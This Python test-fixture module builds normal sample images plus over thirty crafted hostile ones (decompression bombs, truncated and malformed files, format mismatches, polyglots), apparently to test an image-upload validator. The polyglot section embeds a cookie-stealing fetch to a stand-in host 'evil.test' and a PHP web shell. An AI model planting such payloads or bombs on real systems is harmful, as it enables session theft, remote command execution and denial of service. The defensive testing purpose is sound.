"""Pictures made for tests: good ones, and more than thirty that mean harm."""

from __future__ import annotations

import hashlib
import io
import random
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Any

import matplotlib
import numpy as np
import sklearn
from PIL import Image

from influence_assets.media.pool import Stored

PORTRAIT = Path(matplotlib.get_data_path()) / "sample_data" / "grace_hopper.jpg"
TEMPLE = Path(sklearn.__file__).parent / "datasets" / "images" / "china.jpg"
FLOWER = TEMPLE.with_name("flower.jpg")


def scene(width: int = 40, height: int = 30, seed: int = 0) -> Image.Image:
    """A picture with something in it: blocks of many colours."""
    numbers = np.random.default_rng(seed)
    blocks = numbers.integers(0, 255, (-(-height // 8), -(-width // 8), 3), np.uint8)
    return Image.fromarray(blocks.repeat(8, 0).repeat(8, 1)[:height, :width])


def encoded(image: Image.Image, kind: str, **options: Any) -> bytes:
    data = io.BytesIO()
    image.save(data, kind, **options)
    return data.getvalue()


def stored(folder: Path, name: str, data: bytes) -> Stored:
    path = folder / name
    path.write_bytes(data)
    return Stored(path, hashlib.sha256(data).hexdigest())


def chunk(kind: bytes, body: bytes) -> bytes:
    """A chunk of a PNG, with its checksum."""
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def with_chunk(png: bytes, kind: bytes, body: bytes, times: int = 1) -> bytes:
    """A PNG with chunks behind its header."""
    return png[:33] + chunk(kind, body) * times + png[33:]


def segment(marker: int, body: bytes) -> bytes:
    """A segment of a JPEG."""
    return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body


def with_segments(jpeg: bytes, segments: bytes) -> bytes:
    """A JPEG with segments behind its first."""
    end = 4 + int.from_bytes(jpeg[4:6], "big")
    return jpeg[:end] + segments + jpeg[end:]


def riff(*chunks: tuple[bytes, bytes]) -> bytes:
    """A WebP of these chunks."""
    packed = [k + struct.pack("<I", len(b)) + b + b"\0" * (len(b) % 2) for k, b in chunks]
    body = b"WEBP" + b"".join(packed)
    return b"RIFF" + struct.pack("<I", len(body)) + body


def webp_canvas(width: int, height: int, flags: int = 0) -> tuple[bytes, bytes]:
    """The chunk VP8X."""
    size = b"".join((n - 1).to_bytes(3, "little") for n in (width, height))
    return b"VP8X", bytes([flags, 0, 0, 0]) + size


def webp_bitmap(webp: bytes) -> tuple[bytes, bytes]:
    """The first chunk of a plain WebP."""
    length = int.from_bytes(webp[16:20], "little")
    return webp[12:16], webp[20 : 20 + length]


def webp_frame(bitmap: tuple[bytes, bytes], width: int, height: int) -> tuple[bytes, bytes]:
    """The chunk ANMF of a frame at the upper left corner."""
    kind, body = bitmap
    size = b"".join((n - 1).to_bytes(3, "little") for n in (width, height))
    inner = kind + struct.pack("<I", len(body)) + body + b"\0" * (len(body) % 2)
    return b"ANMF", b"\0" * 6 + size + b"\x64\0\0\0" + inner


def zipped() -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        archive.writestr("payload.exe", b"MZ" * 100)
    return data.getvalue()


def header_png(width: int, height: int, *rest: bytes) -> bytes:
    """A PNG of one bit a pixel that promises so many pixels; its data say nothing."""
    body = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    data = rest or (chunk(b"IDAT", zlib.compress(b"\0" * 1_000)),)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", body) + b"".join(data) + chunk(b"IEND", b"")


def blank_png(width: int, height: int) -> bytes:
    """A PNG of four bytes a pixel, all of them clear."""
    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    packing = zlib.compressobj(1)
    rows = [packing.compress(bytes(1 + 4 * width)) for _ in range(height)]
    data = b"".join([*rows, packing.flush()])
    signature = b"\x89PNG\r\n\x1a\n"
    return signature + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def hostile() -> dict[str, tuple[str, bytes]]:
    """Name, rule that it breaks, and bytes of each picture that has to be refused."""
    return {**_bombs(), **_broken(), **_others(), **_polyglots(), **_endless(), **_liars()}


def _bombs() -> dict[str, tuple[str, bytes]]:
    """Small files that grow large."""
    jpeg, png = encoded(scene(), "JPEG"), encoded(scene(), "PNG")
    bomb = zlib.compress(b"A" * 100_000_000, 9)
    frame = b"\x08" + struct.pack(">HH", 65_500, 65_500)
    at = jpeg.index(b"\xff\xc0") + 4
    progressive = encoded(scene(), "JPEG", progressive=True)
    there = progressive.index(b"\xff\xc2") + 4
    size = struct.pack(">HH", 6_000, 6_000)
    lossless = b"\x2f" + struct.pack("<I", 16_383 | 16_383 << 14) + b"\0" * 20
    return {
        "pixels.png": ("too_many_pixels", header_png(30_000, 30_000)),
        "strip.png": ("too_many_pixels", header_png(1, 40_000_000)),
        "pixels.jpg": ("too_many_pixels", jpeg[:at] + frame + jpeg[at + 5 :]),
        "progressive.jpg": (
            "too_many_pixels",
            progressive[: there + 1] + size + progressive[there + 5 :],
        ),
        "pixels.webp": ("too_many_pixels", riff((b"VP8L", lossless))),
        "canvas.webp": (
            "too_many_pixels",
            riff(webp_canvas(1 << 24, 1 << 24), webp_bitmap(encoded(scene(), "WEBP"))),
        ),
        "text.png": ("too_much_metadata", with_chunk(png, b"zTXt", b"Comment\0\0" + bomb)),
        "international.png": (
            "too_much_metadata",
            with_chunk(png, b"iTXt", b"Comment\0\1\0\0\0" + bomb),
        ),
        "profile.png": ("too_much_metadata", with_chunk(png, b"iCCP", b"icc\0\0" + bomb)),
        "exif.jpg": (
            "too_much_metadata",
            with_segments(jpeg, segment(0xE1, b"Exif\0\0" + b"\xff" * 65_000) * 150),
        ),
        "plain_text.png": (
            "too_much_metadata",
            with_chunk(png, b"tEXt", b"Comment\0" + b"A" * 9_000_000),
        ),
        "bytes.jpg": ("too_many_bytes", jpeg + b"\0" * 30_000_000),
        # A picture whose rows are all there: 112 MB of bits, 900 MB of grey.
        "real.png": (
            "too_many_pixels",
            header_png(30_000, 30_000, chunk(b"IDAT", zlib.compress(b"\0" * 112_530_000, 9))),
        ),
    }


def _broken() -> dict[str, tuple[str, bytes]]:
    jpeg, png, webp = (encoded(scene(200, 150), kind) for kind in ("JPEG", "PNG", "WEBP"))
    flipped = bytearray(png)
    flipped[-20] ^= 1
    noise = random.Random(1).randbytes(500)
    lossy_kind, lossy = webp_bitmap(webp)
    return {
        "empty.jpg": ("empty", b""),
        "half.jpg": ("truncated", jpeg[: len(jpeg) // 2]),
        "half.png": ("truncated", png[: len(png) // 2]),
        "half.webp": ("truncated", webp[: len(webp) // 2]),
        "endless.jpg": ("truncated", jpeg[:-2]),
        "endless.png": ("truncated", png[:-12]),
        "checksum.png": ("bad_checksum", bytes(flipped)),
        # Sound to the last checksum, but for the picture itself.
        "noise.png": ("undecodable", header_png(64, 64, chunk(b"IDAT", noise))),
        "short.png": (
            "undecodable",
            header_png(5_000, 5_000, chunk(b"IDAT", zlib.compress(b"\0" * 100))),
        ),
        "noise.webp": ("undecodable", riff((lossy_kind, lossy[:10] + noise + lossy[510:]))),
        "tables.jpg": ("undecodable", jpeg.replace(b"\xff\xdb", b"\xff\xdc")),
        "headless.jpg": ("malformed", b"\xff\xd8\xff\xd9"),
        "arithmetic.jpg": ("unsupported", jpeg.replace(b"\xff\xc0", b"\xff\xc9")),
        "twice.png": ("malformed", png[:33] + png[8:33] + png[33:]),
    }


def _others() -> dict[str, tuple[str, bytes]]:
    """Something else under the name of a picture."""
    image = scene()
    page = b"<!DOCTYPE html><html><body>503</body></html>"
    found = {
        "gif.jpg": encoded(image, "GIF"),
        "bmp.jpg": encoded(image, "BMP"),
        "tiff.jpg": encoded(image, "TIFF"),
        "svg.jpg": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>',
        "page.jpg": page,
        "pdf.jpg": b"%PDF-1.7\n1 0 obj",
        "zip.png": zipped(),
        "elf.png": b"\x7fELF\x02\x01\x01" + b"\0" * 64,
        "avif.webp": encoded(image, "AVIF"),
        "json.jpg": b'{"error": "login required"}',
    }
    return {name: ("not_a_picture", data) for name, data in found.items()}


def _polyglots() -> dict[str, tuple[str, bytes]]:
    jpeg, png, webp = (encoded(scene(), kind) for kind in ("JPEG", "PNG", "WEBP"))
    script = b"*/=1;fetch('//evil.test/?'+document.cookie);function f(){}"
    return {
        "zip_behind.jpg": ("bytes_behind", jpeg + zipped()),
        "page_behind.png": ("bytes_behind", png + b"<script>alert(1)</script>"),
        "pdf_behind.jpg": ("bytes_behind", jpeg + b"%PDF-1.4\n%%EOF"),
        "script_behind.webp": ("bytes_behind", webp + script),
        "php_behind.png": ("bytes_behind", png + b"<?php system($_GET[0]); ?>"),
        "picture_behind.jpg": ("bytes_behind", jpeg + jpeg),
        "script_before.jpg": ("bytes_before", b"function f(){}/*" + jpeg),
        "blank_before.png": ("bytes_before", b"\0" * 100 + png),
    }


def _endless() -> dict[str, tuple[str, bytes]]:
    """Few pixels in very many parts."""
    jpeg, png = encoded(scene(), "JPEG"), encoded(scene(), "PNG")
    bitmap = webp_bitmap(encoded(scene(), "WEBP", lossless=True))
    scan = jpeg[jpeg.index(b"\xff\xda") : -2]
    frames = [webp_frame(bitmap, 40, 30)] * 10_000
    control = struct.pack(">IIIIIHHBB", 0, 40, 30, 0, 0, 1, 10, 0, 0)
    return {
        "segments.jpg": ("too_many_parts", with_segments(jpeg, segment(0xFE, b"") * 1_000_000)),
        "scans.jpg": ("too_many_parts", jpeg[:-2] + scan * 5_000 + b"\xff\xd9"),
        "chunks.png": ("too_many_parts", with_chunk(png, b"tEXt", b"a\0", 500_000)),
        "animated.webp": (
            "too_many_frames",
            riff(webp_canvas(40, 30, 2), (b"ANIM", b"\0" * 6), *frames[:9_000]),
        ),
        "chunks.webp": ("too_many_parts", riff(webp_canvas(40, 30, 2), *frames)),
        "animated.png": ("too_many_frames", with_chunk(png, b"fcTL", control, 9_000)),
        "promised.png": (
            "too_many_frames",
            with_chunk(png, b"acTL", struct.pack(">II", 10_000, 0)),
        ),
    }


def _liars() -> dict[str, tuple[str, bytes]]:
    """Lengths and sizes that are not so."""
    jpeg, png, webp = (encoded(scene(), kind) for kind in ("JPEG", "PNG", "WEBP"))
    kind, body = webp_bitmap(webp)
    first = (int.from_bytes(body[:3], "little") | 0x7FFFF << 5).to_bytes(3, "little")
    at = png.index(b"IDAT")
    return {
        "riff.webp": ("truncated", webp[:4] + struct.pack("<I", 1 << 31) + webp[8:]),
        "chunk.webp": ("truncated", webp[:16] + struct.pack("<I", 1 << 31) + webp[20:]),
        "partition.webp": ("truncated", riff((kind, first + body[3:]))),
        "canvas_lies.webp": ("malformed", riff(webp_canvas(400, 300), (kind, body))),
        "data.png": ("truncated", png[: at - 4] + b"\x7f\xff\xff\xff" + png[at:]),
        "segment.jpg": ("truncated", with_segments(jpeg[:600], b"\xff\xe1\xff\xff")[:200]),
    }
